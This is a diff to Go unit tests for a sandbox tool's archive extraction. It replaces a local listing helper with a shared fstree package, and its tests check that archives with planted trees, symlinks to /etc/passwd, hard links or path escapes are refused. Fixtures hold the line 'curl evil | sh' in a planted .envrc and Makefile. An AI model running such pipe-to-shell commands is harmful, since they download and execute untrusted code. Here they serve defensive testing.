@@ -5,10 +5,8 @@ import (
 	"bytes"
 	"errors"
 	"io"
-	"io/fs"
 	"os"
 	"path/filepath"
-	"sort"
 	"strings"
 	"syscall"
 	"time"
@@ -17,6 +15,7 @@ import (
 	. "github.com/onsi/gomega"
 
 	"github.com/code-sandbox/code-sandbox-operator/internal/execio"
+	"github.com/code-sandbox/code-sandbox-operator/internal/testenv/fstree"
 )
 
 type entry struct {
@@ -65,34 +64,6 @@ func plantedTree() *bytes.Buffer {
 		fileE("report.txt/.envrc", "curl evil | sh\n"),
 		fileE("report.txt/Makefile", "all:\n\tcurl evil | sh\n"),
 	)
-}
-
-// listing is every path below dir with its type and mode, and file content.
-func listing(dir string) []string {
-	GinkgoHelper()
-	var out []string
-	Expect(filepath.WalkDir(dir, func(p string, d fs.DirEntry, err error) error {
-		if err != nil {
-			return err
-		}
-		info, err := d.Info()
-		if err != nil {
-			return err
-		}
-		rel, _ := filepath.Rel(dir, p)
-		line := rel + " " + info.Mode().String()
-		if info.Mode().IsRegular() {
-			b, err := os.ReadFile(p)
-			if err != nil {
-				return err
-			}
-			line += " " + string(b)
-		}
-		out = append(out, line)
-		return nil
-	})).To(Succeed())
-	sort.Strings(out)
-	return out
 }
 
 func withUmask(m int) {
@@ -146,16 +117,16 @@ var _ = Describe("Extract", Label("unit"), func() {
 			// The user's project, where `cp SBX:/app/report.txt .` runs.
 			Expect(os.MkdirAll(filepath.Join(base, ".git", "hooks"), 0o755)).To(Succeed())
 			Expect(os.WriteFile(filepath.Join(base, "Makefile"), []byte("mine\n"), 0o644)).To(Succeed())
-			before := listing(base)
+			before := fstree.List(base)
 
 			_, err := extract(".", "/app/report.txt", plantedTree(), Options{Overwrite: true, KeepExec: true})
 			Expect(err).To(MatchError(ErrWrongType))
 			Expect(err).To(MatchError(ContainSubstring("/app/report.txt is a directory in the sandbox, but a file was asked for")))
-			Expect(listing(base)).To(Equal(before))
+			Expect(fstree.List(base)).To(Equal(before))
 		})
 
 		It("refuses a file archive that goes on with a tree below the file's name", func() {
-			before := listing(base)
+			before := fstree.List(base)
 			_, err := extract(".", "/app/report.txt", tarOf(
 				fileE("report.txt", "ok"),
 				dirE("report.txt/.git/hooks/"),
@@ -163,7 +134,7 @@ var _ = Describe("Extract", Label("unit"), func() {
 			), Options{})
 			Expect(err).To(MatchError(ErrWrongType))
 			Expect(err).To(MatchError(ContainSubstring(`holds "report.txt/.git/hooks/" after the file "report.txt"`)))
-			Expect(listing(base)).To(Equal(before))
+			Expect(fstree.List(base)).To(Equal(before))
 		})
 
 		It("lands an asked-for directory as a new directory, never merged into DEST", func() {
@@ -180,11 +151,11 @@ var _ = Describe("Extract", Label("unit"), func() {
 
 	DescribeTable("refuses an archive whose root does not match the request, writing nothing",
 		func(src string, want error, wantText string, entries ...entry) {
-			before := listing(base)
+			before := fstree.List(base)
 			_, err := extract("dst", src, tarOf(entries...), Options{Overwrite: true})
 			Expect(err).To(MatchError(want))
 			Expect(err).To(MatchError(ContainSubstring(wantText)))
-			Expect(listing(base)).To(Equal(before))
+			Expect(fstree.List(base)).To(Equal(before))
 		},
 		Entry("a directory for a file", "/app/r", ErrWrongType, "is a directory in the sandbox, but a file was asked for", dirE("r/"), fileE("r/x", "x")),
 		Entry("an empty directory for a file", "/app/r", ErrWrongType, "is a directory in the sandbox", dirE("r/")),
@@ -204,11 +175,11 @@ var _ = Describe("Extract", Label("unit"), func() {
 
 	DescribeTable("refuses bad entries inside a tree, removing everything it wrote",
 		func(want error, wantText string, entries ...entry) {
-			before := listing(base)
+			before := fstree.List(base)
 			_, err := extract("new/dst", "/app/r/", tarOf(append([]entry{dirE("r/"), fileE("r/ok", "fine"), dirE("r/sub/"), fileE("r/sub/ok", "fine")}, entries...)...), Options{})
 			Expect(err).To(MatchError(want))
 			Expect(err).To(MatchError(ContainSubstring(wantText)))
-			Expect(listing(base)).To(Equal(before), "a partial tree, a temporary directory or a created parent was left behind")
+			Expect(fstree.List(base)).To(Equal(before), "a partial tree, a temporary directory or a created parent was left behind")
 		},
 		Entry("a symlink", execio.ErrUnsupportedEntry, `"r/sub/link" is a symbolic link`, entry{name: "r/sub/link", typeflag: tar.TypeSymlink, linkname: "/etc/passwd"}),
 		Entry("a hard link", execio.ErrUnsupportedEntry, `"r/hard" is a hard link`, entry{name: "r/hard", typeflag: tar.TypeLink, linkname: "r/ok"}),
@@ -262,7 +233,7 @@ var _ = Describe("Extract", Label("unit"), func() {
 		It("never merges a directory into an existing one, even with Overwrite", func() {
 			Expect(os.MkdirAll(filepath.Join(base, "local", "out"), 0o755)).To(Succeed())
 			Expect(os.WriteFile(filepath.Join(base, "local", "out", "a"), []byte("mine"), 0o644)).To(Succeed())
-			before := listing(base)
+			before := fstree.List(base)
 			for _, src := range []string{"/app/out/", "/app/out/."} {
 				dest := "local"
 				if strings.HasSuffix(src, ".") {
@@ -271,7 +242,7 @@ var _ = Describe("Extract", Label("unit"), func() {
 				_, err := extract(dest, src, tarOf(dirE("out/"), fileE("out/a", "A"), fileE("out/new", "N")), Options{Overwrite: true})
 				Expect(err).To(MatchError(ErrExists), src)
 				Expect(err).To(MatchError(ContainSubstring("never merged")), src)
-				Expect(listing(base)).To(Equal(before), src)
+				Expect(fstree.List(base)).To(Equal(before), src)
 			}
 		})
 
@@ -279,7 +250,7 @@ var _ = Describe("Extract", Label("unit"), func() {
 			Expect(os.WriteFile(filepath.Join(base, "f"), []byte("mine"), 0o644)).To(Succeed())
 			Expect(os.MkdirAll(filepath.Join(base, "d", "r"), 0o755)).To(Succeed())
 			Expect(os.Symlink("/etc/passwd", filepath.Join(base, "d", "link"))).To(Succeed())
-			before := listing(base)
+			before := fstree.List(base)
 			_, err := extract("f", "/app/out/", tarOf(dirE("out/")), Options{Overwrite: true})
 			Expect(err).To(MatchError(ContainSubstring("cannot copy the directory /app/out/ to f, an existing file")))
 			_, err = extract("d", "/app/r", tarOf(fileE("r", "x")), Options{Overwrite: true})
@@ -288,7 +259,7 @@ var _ = Describe("Extract", Label("unit"), func() {
 			Expect(err).To(MatchError(ContainSubstring("symbolic link")))
 			_, err = extract("d", "/app/link", tarOf(fileE("link", "x")), Options{Overwrite: true})
 			Expect(err).To(MatchError(ContainSubstring("d/link exists and is a symbolic link")))
-			Expect(listing(base)).To(Equal(before))
+			Expect(fstree.List(base)).To(Equal(before))
 			Expect(os.ReadFile("/etc/passwd")).NotTo(Equal([]byte("x")))
 		})
 	})
@@ -301,7 +272,7 @@ var _ = Describe("Extract", Label("unit"), func() {
 			Expect(err).To(MatchError(ErrExists))
 			Expect(err).To(MatchError(ContainSubstring("report.txt exists; ask to overwrite it")))
 			Expect(os.ReadFile(target)).To(Equal([]byte("mine")))
-			Expect(listing(base)).To(HaveLen(2), "a temporary file was left behind")
+			Expect(fstree.List(base)).To(HaveLen(2), "a temporary file was left behind")
 
 			// Into the directory holding it too.
 			_, err = extract(".", "/app/report.txt", tarOf(fileE("report.txt", "theirs")), Options{})
@@ -311,7 +282,7 @@ var _ = Describe("Extract", Label("unit"), func() {
 			Expect(err).NotTo(HaveOccurred())
 			Expect(os.ReadFile(target)).To(Equal([]byte("theirs")))
 			Expect(mode(target)).To(Equal(os.FileMode(0o644)), "the mode is the download's, masked")
-			Expect(listing(base)).To(HaveLen(2), "a temporary file was left behind")
+			Expect(fstree.List(base)).To(HaveLen(2), "a temporary file was left behind")
 		})
 	})
 
@@ -340,14 +311,14 @@ var _ = Describe("Extract", Label("unit"), func() {
 
 	Describe("failures", func() {
 		It("removes a written file and the parents it created when the transfer fails at the end", func() {
-			before := listing(base)
+			before := fstree.List(base)
 			_, err := extract("a/b/f", "/app/f", tarOf(fileE("f", "x")), Options{Complete: func() error { return errors.New("cut off") }})
 			Expect(err).To(MatchError("cut off"))
-			Expect(listing(base)).To(Equal(before))
+			Expect(fstree.List(base)).To(Equal(before))
 
 			_, err = extract("a/b/t", "/app/t/", tarOf(dirE("t/"), fileE("t/f", "x")), Options{Complete: func() error { return errors.New("cut off") }})
 			Expect(err).To(MatchError("cut off"))
-			Expect(listing(base)).To(Equal(before))
+			Expect(fstree.List(base)).To(Equal(before))
 		})
 
 		It("enforces the caps", func() {
@@ -357,7 +328,7 @@ var _ = Describe("Extract", Label("unit"), func() {
 			Expect(err).To(MatchError(execio.ErrTooLarge))
 			_, err = extract("f", "/app/f", tarOf(fileE("f", "123456")), Options{MaxBytes: 5})
 			Expect(err).To(MatchError(execio.ErrTooLarge))
-			Expect(listing(base)).To(HaveLen(1))
+			Expect(fstree.List(base)).To(HaveLen(1))
 		})
 
 		It("reports an empty archive", func() {
@@ -372,7 +343,7 @@ var _ = Describe("Extract", Label("unit"), func() {
 			Expect(err).To(HaveOccurred())
 			_, err = extract("escape", "/app/f", tarOf(fileE("f", "x")), Options{DestIsDir: true})
 			Expect(err).To(HaveOccurred())
-			Expect(listing(outside)).To(HaveLen(1))
+			Expect(fstree.List(outside)).To(HaveLen(1))
 		})
 	})
 })
@@ -389,14 +360,14 @@ var _ = Describe("Download", Label("unit"), func() {
 			return failed
 		})
 		Expect(err).To(MatchError(failed))
-		Expect(listing(base)).To(HaveLen(1))
+		Expect(fstree.List(base)).To(HaveLen(1))
 
 		_, err = Download(root, "t", ParseSource("/app/t"), Options{}, func(w io.Writer) error {
 			_, err := io.Copy(w, tarOf(dirE("t/"), fileE("t/a", strings.Repeat("a", 1<<20))))
 			return err // the extraction's refusal, through the pipe
 		})
 		Expect(err).To(MatchError(ErrWrongType))
-		Expect(listing(base)).To(HaveLen(1))
+		Expect(fstree.List(base)).To(HaveLen(1))
 
 		// A backend that reports the broken pipe in its own words: the
 		// host's refusal is still what is reported.
@@ -412,7 +383,7 @@ var _ = Describe("Download", Label("unit"), func() {
 		// A download that fails before any byte is reported as such.
 		_, err = Download(root, "t", ParseSource("/app/t"), Options{}, func(io.Writer) error { return failed })
 		Expect(err).To(Equal(failed))
-		Expect(listing(base)).To(HaveLen(1))
+		Expect(fstree.List(base)).To(HaveLen(1))
 
 		res, err := Download(root, "t", ParseSource("/app/t/"), Options{}, func(w io.Writer) error {
 			_, err := io.Copy(w, tarOf(dirE("t/"), fileE("t/a", "a")))
